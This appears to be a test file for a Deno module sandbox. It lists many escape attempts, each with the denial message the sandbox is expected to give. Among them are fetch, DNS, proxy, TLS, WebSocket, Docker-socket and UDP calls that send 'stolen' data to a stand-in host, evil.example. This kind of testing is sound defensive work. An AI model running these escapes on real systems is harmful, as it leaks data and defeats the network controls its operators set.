import { type Escape, testEscape } from "./hostile_module.ts";

function reached(target: string): Pick<Escape, "fault" | "message" | "hint"> {
  return {
    fault: "denied",
    message: `it wanted to reach ${target}, which it may not`,
    hint: `add ${
      /:(\d+|PORT)$|[A-Z]$/.test(target) ? target : `${target}:PORT`
    } to allow_net of [[hostile]] if it may go there`,
  };
}

const missing = (what: string) =>
  ({ fault: "crash", message: `TypeError: ${what} is not a function (AT)` }) as const;

const FORBIDDEN_PORT = "Number(new URL(forbidden).port)";

const ESCAPES: readonly Escape[] = [
  {
    name: "fetch from another port of its host",
    push: "await fetch(forbidden);",
    ...reached("FORBIDDEN"),
  },
  {
    name: "fetch from another host",
    push: "await fetch('http://evil.example/?stolen=1');",
    ...reached("evil.example:80"),
  },
  {
    name: "call its host by another name",
    push: "await fetch(`http://localhost:${port}/`);",
    ...reached("localhost:PORT"),
  },
  {
    name: "be redirected to another host",
    push: "await fetch(allowed);",
    answer: (forbidden) => Response.redirect(`${forbidden.url}/stolen`),
    ...reached("FORBIDDEN"),
  },
  {
    name: "go through a proxy",
    push:
      "const client = Deno.createHttpClient({ proxy: { url: forbidden } }); await fetch('http://evil.example/', { client });",
    ...reached("evil.example:80"),
  },
  {
    name: "go through a proxy to its own host",
    loading: "import",
    push:
      "const client = Deno.createHttpClient({ proxy: { url: forbidden } }); await fetch(allowed, { client });",
    ...reached("FORBIDDEN"),
  },
  {
    name: "ask a name server",
    push: "await Deno.resolveDns('stolen.evil.example', 'A');",
    ...missing("Deno.resolveDns"),
  },
  {
    name: "look up a name",
    loading: "import",
    push: "await (await import('node:dns/promises')).lookup('stolen.evil.example');",
    ...reached("stolen.evil.example"),
  },
  {
    name: "open a TCP connection",
    push: `await Deno.connect({ hostname: '127.0.0.1', port: ${FORBIDDEN_PORT} });`,
    ...reached("FORBIDDEN"),
  },
  {
    name: "open a TLS connection",
    push: "await Deno.connectTls({ hostname: 'evil.example', port: 443 });",
    ...reached("evil.example:443"),
  },
  {
    name: "open a Unix socket",
    loading: "import",
    push: "await Deno.connect({ transport: 'unix', path: '/run/docker.sock' });",
    fault: "denied",
    message: 'it wanted to read "/run/docker.sock", which it may not',
    hint: "name the file in a key of type file if the module may read it",
  },
  {
    name: "turn a TCP connection into one of another kind",
    push: "await Deno.connect({ transport: 'vsock', cid: 2, port: 22 });",
    ...reached("127.0.0.1:22"),
  },
  {
    name: "end the daemon by an unstable kind of connection",
    loading: "import",
    isolation: ["process"],
    push: "await Deno.connect({ transport: 'vsock', cid: 2, port: 22 });",
    fault: "crash",
    message:
      "its process ended with exit code 70 (Unstable API 'Deno.connect'. The `--unstable-vsock` flag must be provided.)",
  },
  {
    name: "open a WebSocket",
    push:
      "await new Promise((_, reject) => { new WebSocket(forbidden.replace('http', 'ws')).onerror = (event) => reject(event.error); });",
    ...reached("FORBIDDEN"),
  },
  {
    name: "use node:net",
    loading: "import",
    push:
      `const net = await import('node:net'); await new Promise((_, reject) => net.connect(${FORBIDDEN_PORT}, '127.0.0.1').on('error', reject));`,
    ...reached("FORBIDDEN"),
  },
  {
    name: "use node:http",
    loading: "import",
    push:
      "const http = await import('node:http'); await new Promise((_, reject) => http.get(forbidden).on('error', reject));",
    ...reached("FORBIDDEN"),
  },
  {
    name: "send datagrams by node:dgram",
    loading: "import",
    push:
      `const dgram = await import('node:dgram'); dgram.createSocket('udp4').send('stolen', ${FORBIDDEN_PORT}, '127.0.0.1'); await new Promise(() => {});`,
    ...reached("0.0.0.0:0"),
  },
  { name: "listen", push: "Deno.listen({ port: 0 });", ...missing("Deno.listen") },
  {
    name: "listen",
    loading: "import",
    push: "Deno.listen({ port: 0 });",
    ...reached("0.0.0.0:0"),
  },
  {
    name: "serve",
    loading: "import",
    push: "await Deno.serve({ port: 0 }, () => new Response()).finished;",
    ...reached("0.0.0.0:0"),
  },
];

for (const escape of ESCAPES) testEscape(escape);
